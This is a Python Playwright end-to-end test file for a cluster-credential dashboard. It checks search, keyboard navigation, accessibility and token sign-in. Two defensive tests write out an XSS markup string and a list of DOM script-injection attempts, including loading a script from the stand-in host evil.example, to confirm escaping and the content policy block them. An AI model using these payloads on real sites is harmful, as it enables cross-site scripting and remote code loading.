"""What people do with the dashboard, in a real Chromium."""

from __future__ import annotations

import pytest
from axe_playwright_python.async_playwright import Axe
from playwright.async_api import Browser, expect
from tests.dashboard.browsing import FIRST_ROW, signed_in, visit
from tests.dashboard.harness import a_person, allow, read
from tests.dashboard.test_board import set_conditions
from tests.helpers.credential_fleet import CredentialFleet, a_condition

from watchword.api.names import ConditionType
from watchword.testing.plane import Plane

pytestmark = [pytest.mark.real_time, pytest.mark.planes("embedded"), pytest.mark.timeout(300)]

PAGES = [
    "#/", "#/credentials", "#/clusters", "#/add-ons", "#/accounts", "#/pull-secrets", "#/clusters/edge-6", "#/reasons",
    "#/reasons/NameConflict",
]  # fmt: skip
MARKUP = "<img src=x onerror=alert(1)><script>alert(2)</script><style>*{display:none}</style>"
INJECTIONS = [
    f"() => {{ try {{ {attempt}; return 'done' }} catch {{ return 'blocked' }} }}"
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.write('<b>x</b>')",
        "document.createElement('script').src = 'https://evil.example/x.js'",
        "document.createElement('script').text = 'alert(1)'",
        "document.body.setAttribute('onclick', 'alert(1)')",
    )
]


async def test_address_opens_the_dashboard_and_its_code_leaves_the_url(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    await hub.everything()

    async with signed_in(plane, browser) as visited:
        await visited.page.wait_for_selector(FIRST_ROW)

        assert visited.page.url == visited.served.url
        assert await visited.page.evaluate("document.cookie") == ""
        assert await visited.page.evaluate("history.length") <= 2


async def test_problems_stand_first_with_their_next_command(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    await hub.everything()

    async with signed_in(plane, browser) as visited:
        problems = visited.page.get_by_role("grid", name="Needs attention")
        await expect(problems.locator("[role=row]")).to_have_count(7)

        await expect(visited.page.locator(".attention h2")).to_have_text("Needs attention (6)")
        await expect(problems.locator("[role=row]").first).to_contain_text("Next command")
        await expect(problems.locator("[role=row]").last).to_contain_text("watchword accept edge-9")


async def test_search_finds_a_credential_and_enter_opens_its_cluster(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    await hub.everything()

    async with signed_in(plane, browser) as visited:
        await visited.open("#/credentials")
        await visited.page.keyboard.press("/")
        await visited.page.keyboard.type("edge-6 certificate")
        await expect(visited.page.get_by_role("grid")).to_have_attribute("aria-rowcount", "2")
        await visited.page.locator(FIRST_ROW).focus()
        await visited.page.keyboard.press("Enter")
        await expect(visited.page.get_by_role("heading", level=1)).to_have_text("edge-6")
        await visited.page.get_by_role("link", name="ManagedClusterLeaseUpdateStopped").click()
        await expect(visited.page.get_by_role("heading", level=1)).to_have_text("ManagedClusterLeaseUpdateStopped")

        await visited.shows("watchword clusters show edge-6")


async def test_arrow_keys_move_through_all_rows_and_only_those_in_view_are_rendered(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    await hub.many(60)

    async with signed_in(plane, browser) as visited:
        await visited.open("#/credentials")
        await visited.page.locator(FIRST_ROW).focus()
        await visited.page.keyboard.press("ArrowDown")
        await expect(visited.page.locator(":focus")).to_have_attribute("aria-rowindex", "3")
        await visited.page.keyboard.press("End")
        await expect(visited.page.locator(":focus")).to_have_attribute("aria-rowindex", "182")

        assert await visited.page.get_by_role("grid").get_attribute("aria-rowcount") == "182"
        assert await visited.page.locator("[role=row]").count() < 60


async def test_change_on_the_hub_appears_without_reloading(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    await hub.cluster("edge-1")

    async with signed_in(plane, browser) as visited:
        await expect(visited.page.get_by_text("Nothing needs attention.")).to_be_visible()
        await visited.page.evaluate("window.stayed = true")
        silent = a_condition(ConditionType.AVAILABLE, "Unknown", "ManagedClusterLeaseUpdateStopped", "went silent")
        await set_conditions(hub.client, "edge-1", silent)
        await expect(visited.page.get_by_text("went silent").first).to_be_visible()

        assert await visited.page.evaluate("window.stayed") is True


async def test_text_from_clusters_is_shown_and_never_becomes_markup(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    await hub.cluster("edge-1", available="False", said=MARKUP)
    await hub.event("edge-1", MARKUP, kind="Warning")
    await hub.join_token(description=MARKUP)

    async with signed_in(plane, browser) as visited:
        for page in ("#/", "#/credentials", "#/clusters", "#/clusters/edge-1", f"#/reasons/{MARKUP}", f"#/{MARKUP}"):
            await visited.open(page)
            if MARKUP not in page:
                await visited.shows("edge-1")
            assert await visited.page.locator("main img, main script, main style, main iframe").count() == 0
        await visited.open("#/clusters/edge-1")
        await expect(visited.page.get_by_label("List of events")).to_contain_text(MARKUP)


async def test_injected_script_is_stopped_by_the_content_policy(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    async with visit(plane, browser) as visited:
        await visited.page.goto(visited.served.address())
        await visited.page.wait_for_selector("main h1")
        outcomes = [await visited.page.evaluate(attempt) for attempt in INJECTIONS]

        assert outcomes == ["blocked"] * len(INJECTIONS)
        assert visited.problems


@pytest.mark.slow
@pytest.mark.parametrize("look", ["light", "dark", "narrow"])
async def test_every_page_passes_the_accessibility_audit(
    plane: Plane, hub: CredentialFleet, browser: Browser, look: str
) -> None:
    await hub.everything()

    async with signed_in(plane, browser) as visited:
        await visited.page.emulate_media(color_scheme="dark" if look == "dark" else "light")
        await visited.page.set_viewport_size({"width": 420 if look == "narrow" else 1280, "height": 800})
        for page in PAGES:
            await visited.open(page)
            await expect(visited.page.locator("main table, main [role=grid], main dl").first).to_be_visible()
            found = await Axe().run(visited.page)
            assert found.violations_count == 0, found.generate_report()


async def test_login_and_signed_out_pages_pass_the_accessibility_audit(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    for login in (True, False):
        async with visit(plane, browser, login=login) as visited:
            await visited.page.goto(visited.served.url)
            await visited.page.wait_for_selector("h1")
            found = await Axe().run(visited.page)
            assert found.violations_count == 0, found.generate_report()


async def test_person_signs_in_with_a_token_and_sees_their_own_clusters(
    plane: Plane, hub: CredentialFleet, browser: Browser
) -> None:
    await hub.everything()
    person, token = await a_person(plane, "owner")
    await allow(plane, person, read("managedclusters", "cluster.open-cluster-management.io", "edge-3"))

    async with visit(plane, browser, login=True) as visited:
        await visited.page.goto(visited.served.url)
        await visited.page.get_by_label("Bearer token").fill("wrong")
        await visited.page.get_by_role("button", name="Sign in").click()
        await expect(visited.page.get_by_role("alert")).to_be_visible()
        await visited.page.get_by_label("Bearer token").fill(token)
        await visited.page.get_by_role("button", name="Sign in").click()
        await visited.page.locator("[data-page=clusters]").click()
        await expect(visited.page.get_by_role("grid")).to_have_attribute("aria-rowcount", "2")

        await visited.shows("edge-3")
        await visited.shows("Not shown: pull secrets (you may not list them)")


async def test_printed_page_holds_every_row(plane: Plane, hub: CredentialFleet, browser: Browser) -> None:
    await hub.many(60)

    async with signed_in(plane, browser) as visited:
        await visited.open("#/credentials")
        await visited.page.wait_for_selector(FIRST_ROW)
        await visited.page.emulate_media(media="print")

        await expect(visited.page.locator(".grid-body [role=row]")).to_have_count(181)
        await expect(visited.page.get_by_role("searchbox")).to_be_hidden()
